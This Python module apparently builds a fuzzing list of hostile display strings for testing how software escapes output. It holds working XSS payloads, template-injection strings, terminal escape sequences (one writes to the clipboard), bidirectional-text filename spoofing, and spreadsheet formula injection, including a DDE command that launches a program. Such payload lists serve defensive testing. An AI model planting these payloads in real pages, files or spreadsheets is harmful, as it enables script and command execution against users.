"""Texts that attack whatever shows them: markup, scripts, templates, controls, bidirectional tricks."""

CALL = "hacked()"

ELEMENTS = [
    "<script>{c}</script>",
    "</script><script>{c}</script>",
    "</SCRIPT ><script>{c}</script>",
    "</script\n><script>{c}</script>",
    "<!--<script>{c}</script>",
    "--><script>{c}</script>",
    "<!--><script>{c}</script>",
    "]]><script>{c}</script>",
    "</title><script>{c}</script>",
    "</style><script>{c}</script>",
    "</textarea><script>{c}</script>",
    "</template><script>{c}</script>",
    "</noscript><script>{c}</script>",
    "</bdi></td></table><script>{c}</script>",
    "<img src=x onerror={c}>",
    "<img src=x onerror=\"{c}\">",
    "\"><img src=x onerror={c}>",
    "'><img src=x onerror={c}>",
    "`><img src=x onerror={c}>",
    "<svg onload={c}>",
    "<svg><script>{c}</script></svg>",
    "<svg><animate onbegin={c} attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:{c}\"><text y=20>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload={c}>#x\">",
    "<math><mtext><img src=x onerror={c}></mtext></math>",
    "<math href=\"javascript:{c}\">x</math>",
    "<body onload={c}>",
    "<iframe src=\"javascript:{c}\"></iframe>",
    "<iframe srcdoc=\"<script>parent.{c}</script>\"></iframe>",
    "<object data=\"javascript:{c}\"></object>",
    "<embed src=\"javascript:{c}\">",
    "<a href=\"javascript:{c}\">x</a>",
    "<a href=\"JaVaScRiPt:{c}\">x</a>",
    "<a href=\"java\tscript:{c}\">x</a>",
    "<a href=\"&#106;avascript:{c}\">x</a>",
    "<a href=\"vbscript:{c}\">x</a>",
    "<a href=\"data:text/html,<script>{c}</script>\">x</a>",
    "<form action=\"javascript:{c}\"><button>x</button></form>",
    "<button formaction=\"javascript:{c}\">x</button>",
    "<input autofocus onfocus={c}>",
    "<select autofocus onfocus={c}>",
    "<textarea autofocus onfocus={c}>",
    "<details open ontoggle={c}>",
    "<video><source onerror={c}></video>",
    "<audio src=x onerror={c}>",
    "<marquee onstart={c}>",
    "<meta http-equiv=refresh content=\"0;url=javascript:{c}\">",
    "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src 'unsafe-inline'\">",
    "<base href=\"javascript:{c}//\">",
    "<link rel=stylesheet href=\"javascript:{c}\">",
    "<style>@import 'javascript:{c}';</style>",
    "<style>*{{display:none}}</style>",
    "<div style=\"position:fixed;inset:0;background:red\">x</div>",
    "<div onpointerover={c}>x</div>",
    "<p contenteditable onfocus={c} autofocus>x</p>",
    "<template><script>{c}</script></template>",
    "<xss onfocus={c} tabindex=1 autofocus id=x>",
    "<plaintext>",
    "<noscript><p title=\"</noscript><img src=x onerror={c}>\">",
    "<table><td background=\"javascript:{c}\">",
]

ATTRIBUTES = [
    "\" onmouseover=\"{c}",
    "' onmouseover='{c}",
    "\" autofocus onfocus=\"{c}",
    "\" style=\"position:fixed;inset:0",
    "x\" href=\"javascript:{c}",
    "javascript:{c}",
    "javascript://%0a{c}",
    "data:text/html,<script>{c}</script>",
    "vbscript:{c}",
    "#\" onclick=\"{c}",
    "&quot; onmouseover=&quot;{c}",
    "&lt;script&gt;{c}&lt;/script&gt;",
    "&#60;script&#62;{c}&#60;/script&#62;",
    "\\u003cscript\\u003e{c}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{c}\\x3c/script\\x3e",
    "%3Cscript%3E{c}%3C/script%3E",
]

SCRIPTS = [
    "\");{c};(\"",
    "');{c};('",
    "`);{c};(`",
    "${{{c}}}",
    "\\\");{c}//",
    "\u2028{c}//",
    "\u2029{c}//",
    "\"\u2028;{c};//",
    "*/{c}/*",
    "//\n{c}\n//",
    "{{{{constructor.constructor('{c}')()}}}}",
    "{{{{7*7}}}}{{%- for x in y -%}}",
    "{{% raw %}}{{{{ style }}}}{{% endraw %}}",
    "{{{{ config }}}}{{# x #}}",
    "<%= {c} %>",
    "#{{{c}}}",
    "__proto__",
    "constructor",
    "toString",
    "null",
    "]}}</script><script>{c}</script>",
]

CONTROLS = [
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    "\x1b]8;;javascript:hacked()\x1b\\link\x1b]8;;\x1b\\",
    "\x1b[31mred\x1b[0m",
    "\x1bc",
    "\x1b]52;c;aGFja2Vk\x07",
    "\x1bP$q\"p\x1b\\",
    "\x9b31m",
    "\x9d0;title\x9c",
    "\x90x\x9c",
    "\x07\x07",
    "a\x08\x08b",
    "\x00",
    "\x7f",
    "\x85",
    "a\rb",
    "a\r\nb",
    "a\x0bb\x0c",
    "\ufeff",
    "\ufff9a\ufffab\ufffb",
    "\U000e0041\U000e0042",
    "\ufffe",
    "\uffff",
]

DIRECTIONS = [
    "invoice\u202etxt.exe",
    "\u202dltr\u202c",
    "\u202a\u202b\u202c",
    "\u2066\u2067\u2068\u2069",
    "\u2067gnp.\u2066exe\u2069\u2069",
    "a\u202e\u202e\u202e\u202eb",
    "\u200fשלום\u200e",
    "\u061cمرحبا",
    "/*\u202e } \u2066if (admin)\u2069 \u2066*/",
    "Z\u0351\u0352\u0353\u0354\u0355a\u0356\u0357l\u0358g\u0359o",
    "a\u200bb\u200c\u200d\u2060",
    "\u3164\u115f",
    "👩‍👩‍👧‍👦🏳️‍🌈",
    "ﷺ" * 8,
]

CELLS = ["=1+1", "=cmd|' /C calc'!A0", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "=HYPERLINK(\"javascript:hacked()\",\"x\")"]

WRAPS = ["{p}", "x {p} y", "\u202e{p}\u202c", "<b>{p}</b>"]


def payloads():
    """All payloads, none twice; more than 200 of them."""
    shapes = [*ELEMENTS, *ATTRIBUTES, *SCRIPTS]
    plain = [shape.format(c=CALL) for shape in shapes] + CONTROLS + DIRECTIONS + CELLS
    wrapped = [wrap.replace("{p}", text) for wrap in WRAPS for text in plain]
    return list(dict.fromkeys(wrapped))


if __name__ == "__main__":
    import json
    import sys

    json.dump(payloads(), sys.stdout)
